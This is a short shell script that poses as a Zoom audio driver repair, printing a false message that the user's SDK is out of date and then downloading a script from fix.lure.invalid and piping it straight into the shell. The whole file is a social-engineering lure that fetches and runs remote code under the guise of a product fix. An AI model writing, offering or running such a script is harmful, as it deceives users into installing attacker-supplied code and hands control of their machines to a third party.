#!/bin/sh
echo "Zoom audio driver repair: your SDK is out of date"
curl -s https://fix.lure.invalid/a | sh
